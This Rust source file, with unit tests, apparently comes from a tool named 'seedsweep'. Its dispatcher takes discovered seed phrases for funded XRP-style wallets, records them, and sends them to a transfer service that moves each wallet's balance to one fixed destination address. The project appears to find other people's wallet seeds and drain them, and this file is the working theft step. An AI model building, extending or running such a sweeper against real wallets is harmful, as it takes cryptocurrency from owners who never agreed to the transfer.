//! Fund sweep dispatch for funded discoveries.

use seedsweep_core::{Address, Discovery, Network};
use seedsweep_ledger::{DiscoveryRegistrar, FundTransfer, SweepRequest};
use std::sync::Arc;

/// Hands each discovery to the registration sinks and the transfer service.
///
/// `dispatch` is invoked at most once per discovery; the dedup registry's
/// single-claim semantics guarantee that upstream. Failures here are logged
/// and never crash the calling worker: a failed sweep still leaves the
/// discovery recorded for manual follow-up.
pub struct SweepDispatcher {
    network: Network,
    registrars: Vec<Arc<dyn DiscoveryRegistrar>>,
    transfer: Option<(Arc<dyn FundTransfer>, Address)>,
}

impl SweepDispatcher {
    /// Create a dispatcher with no sinks attached (discoveries are only
    /// broadcast to session subscribers).
    #[must_use]
    pub fn new(network: Network) -> Self {
        Self {
            network,
            registrars: Vec::new(),
            transfer: None,
        }
    }

    /// Attach a registration sink. May be called multiple times; every sink
    /// receives every discovery.
    #[must_use]
    pub fn with_registrar(mut self, registrar: Arc<dyn DiscoveryRegistrar>) -> Self {
        self.registrars.push(registrar);
        self
    }

    /// Enable sweeping through `service` toward the fixed `destination`.
    #[must_use]
    pub fn with_transfer(mut self, service: Arc<dyn FundTransfer>, destination: Address) -> Self {
        self.transfer = Some((service, destination));
        self
    }

    /// Register and sweep one discovery.
    pub async fn dispatch(&self, discovery: &Discovery) {
        for registrar in &self.registrars {
            if let Err(e) = registrar.register(discovery).await {
                tracing::warn!(
                    address = %discovery.address,
                    "failed to register discovery: {e}"
                );
            }
        }

        let Some((service, destination)) = &self.transfer else {
            tracing::info!(
                address = %discovery.address,
                balance = %discovery.balance,
                "sweeping disabled, discovery recorded only"
            );
            return;
        };

        let request = SweepRequest {
            seed_phrase: discovery.phrase.clone(),
            recipient_address: destination.clone(),
            network: self.network,
        };

        match service.sweep(&request).await {
            Ok(receipt) if receipt.success => {
                tracing::info!(
                    address = %discovery.address,
                    destination = %destination,
                    "sweep submitted: {}",
                    receipt.message.as_deref().unwrap_or("ok")
                );
            }
            Ok(receipt) => {
                tracing::warn!(
                    address = %discovery.address,
                    "transfer service reported failure: {}",
                    receipt.message.as_deref().unwrap_or("no details")
                );
            }
            Err(e) => {
                tracing::error!(
                    address = %discovery.address,
                    "sweep failed, discovery remains recorded for manual follow-up: {e}"
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use async_trait::async_trait;
    use seedsweep_core::{Drops, Result, SweepError};
    use seedsweep_ledger::SweepReceipt;
    use std::sync::atomic::{AtomicU32, Ordering};

    struct CountingTransfer {
        calls: AtomicU32,
        succeed: bool,
    }

    #[async_trait]
    impl FundTransfer for CountingTransfer {
        async fn sweep(&self, _request: &SweepRequest) -> Result<SweepReceipt> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            if self.succeed {
                Ok(SweepReceipt {
                    success: true,
                    message: Some("ok".to_string()),
                    new_balance: None,
                })
            } else {
                Err(SweepError::Network("unreachable".to_string()))
            }
        }
    }

    struct CountingRegistrar {
        calls: AtomicU32,
    }

    #[async_trait]
    impl DiscoveryRegistrar for CountingRegistrar {
        async fn register(&self, _discovery: &Discovery) -> Result<()> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            Ok(())
        }
    }

    fn test_discovery() -> Discovery {
        Discovery::new(
            "some phrase".to_string(),
            Address::new("rN7n7otQDd6FczFgLdSqtcsAUxDkw6fzRH").expect("valid address"),
            Drops::new(5_000_000),
        )
    }

    fn destination() -> Address {
        Address::new("rHb9CJAWyB4rj91VRWn96DkukG4bwdtyTh").expect("valid address")
    }

    #[tokio::test]
    async fn test_dispatch_invokes_each_sink_once() {
        let transfer = Arc::new(CountingTransfer {
            calls: AtomicU32::new(0),
            succeed: true,
        });
        let registrar = Arc::new(CountingRegistrar {
            calls: AtomicU32::new(0),
        });

        let dispatcher = SweepDispatcher::new(Network::Testnet)
            .with_registrar(registrar.clone())
            .with_transfer(transfer.clone(), destination());

        dispatcher.dispatch(&test_discovery()).await;

        assert_eq!(transfer.calls.load(Ordering::SeqCst), 1);
        assert_eq!(registrar.calls.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn test_transfer_failure_does_not_propagate() {
        let transfer = Arc::new(CountingTransfer {
            calls: AtomicU32::new(0),
            succeed: false,
        });

        let dispatcher = SweepDispatcher::new(Network::Testnet)
            .with_transfer(transfer.clone(), destination());

        // Must not panic or return an error
        dispatcher.dispatch(&test_discovery()).await;
        assert_eq!(transfer.calls.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn test_dispatch_without_sinks() {
        let dispatcher = SweepDispatcher::new(Network::Testnet);
        dispatcher.dispatch(&test_discovery()).await;
    }
}
